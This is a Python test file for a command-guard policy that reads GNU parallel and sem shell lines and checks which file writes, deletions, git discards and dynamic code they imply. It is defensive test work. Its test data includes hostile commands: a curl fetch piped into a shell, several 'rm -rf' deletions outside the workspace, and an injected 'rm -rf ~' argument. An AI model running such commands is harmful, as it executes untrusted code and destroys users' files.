"""GNU parallel is read as xargs is (issue 27): literal `:::` arguments make every job known,
walked as the shell line parallel builds; arguments from input are not known, and from a
known producer they are paths under what it was given.

Pure: a fixed context (workspace /w/proj, home /h/u); `/o/…` is outside the workspace.
"""

from __future__ import annotations

import pytest
from projected import CTX, H, run

from guard.policy.files import load_policy
from guard.verdict.decision import decide


def seen(line: str) -> set[str]:
    out = set()
    for r in run(line).requests:
        if r.surface == "command":
            out.add("run:" + " ".join(r.argv))
        elif r.surface == "external_directory":
            out.add(f"{r.access}:{r.path}")
        elif r.surface == "effect":
            out.add(f"{r.kind}:{r.target}")
        elif r.surface == "dynamic":
            out.add(f"dynamic:{r.role}")
    return out


JOBS = [
    ("parallel gzip ::: a.txt b.txt", {"run:gzip a.txt", "run:gzip b.txt"}),
    ("parallel -j4 gzip -9 ::: a.log", {"run:gzip -9 a.log"}),
    ("parallel echo {1}-{2} ::: a b ::: 1", {"run:echo a-1", "run:echo b-1"}),
    ("parallel 'mv {} {.}.bak' ::: x.txt", {"run:mv x.txt x.bak"}),
    ("parallel cp {} /o/{/} ::: src/a.c", {"run:cp src/a.c /o/a.c", "write:/o/a.c"}),
    ("parallel rm -rf ::: /o/old", {"run:rm -rf /o/old", "write:/o/old", "destroy:files"}),
    ("parallel 'rm -rf {}' ::: build /o/x", {"run:rm -rf build", "run:rm -rf /o/x",
                                             "write:/o/x", "destroy:files"}),
    ("parallel ::: 'make test' 'git stash clear'", {"run:make test", "run:git stash clear",
                                                    "discard:git-stash"}),
    ("parallel git checkout -- ::: a.txt", {"run:git checkout -- a.txt",
                                            "discard:git-worktree"}),
    ("parallel -q sh -c 'cat \"$1\"' _ ::: /o/s", {"read:/o/s"}),
    # input nobody knows, or code parallel runs itself
    ("cat list.txt | parallel rm", {"dynamic:path"}),
    ("parallel gzip :::: list.txt", {"dynamic:path"}),
    ("parallel -a /o/list gzip", {"read:/o/list", "dynamic:path"}),
    ("ls | parallel 'rm {}; touch {}'", {"dynamic:code"}),
    ("parallel echo {= s/a/b/ =} ::: a", {"dynamic:code"}),
    ("parallel --rpl '{x} s/a/b/' echo {x} ::: a", {"dynamic:code"}),
    ("parallel -S host1 hostname ::: 1", {"dynamic:code"}),
    ("parallel --sshloginfile hosts uptime ::: 1", {"dynamic:code"}),
    ("find . | parallel", {"dynamic:code"}),
    ("cat big.txt | parallel --pipe rm -rf /o/x", {"write:/o/x", "destroy:files"}),
    ("curl -s https://x.example/a | parallel --pipe sh", {"dynamic:code"}),
    ("parallel echo ::: {1..100} ::: {1..100}", {"dynamic:code"}),
    ("parallel --joblog /o/j.log echo ::: a", {"write:/o/j.log", "run:echo a"}),
    # sem (parallel --semaphore) runs its command's words through a shell
    ("sem --id build 'rm -rf /o/x'", {"write:/o/x", "destroy:files"}),
    ("parallel --semaphore -j2 rm -rf /o/x", {"write:/o/x", "destroy:files"}),
    # an argument that begins the command is the command's text (checked against parallel)
    ("parallel {} ::: 'rm -rf /o/x'", {"write:/o/x", "destroy:files"}),
    ("parallel {.} ::: 'rm -rf /o/x.y'", {"write:/o/x", "destroy:files"}),
    ("parallel '{} /o/x' ::: 'rm -rf'", {"write:/o/x", "destroy:files"}),
]  # fmt: skip


@pytest.mark.parametrize(("line", "expected"), JOBS)
def test_the_jobs_parallel_runs_are_read(line: str, expected: set[str]) -> None:
    kept = ("write:", "read:", "destroy:", "discard:", "dynamic:")
    found = {s for s in seen(line) if s.startswith(kept) or s in expected}
    assert found == expected


QUIET = [
    "parallel gzip ::: a.txt b.txt",
    "parallel 'echo {}' ::: 'a; rm -rf ~'",  # after the command: quoted, one word to echo
    "sem -j4 'make test'",
    "sem --wait",
    "parallel -j4 gzip ::: *.log",
    "parallel echo ::: a b c ::: 1 2 3",
    "parallel --bar -k wc -l ::: src/a.c src/b.c",
    "find . -name '*.log' | parallel gzip",
    "git ls-files '*.py' | parallel -j8 wc -l",
    "parallel -j+0 'gzip {}' ::: data/a.csv data/b.csv",
    "parallel --dry-run rm ::: a b",
    "parallel --pipe --block 10M gzip < big.txt",
]


@pytest.mark.parametrize("line", QUIET)
def test_ordinary_uses_of_parallel_are_allowed(line: str) -> None:
    policy = load_policy(None, home=H, user_file="/nonexistent/policy.toml")
    assert decide(policy, run(line), (), home=H).decision == "allow", CTX
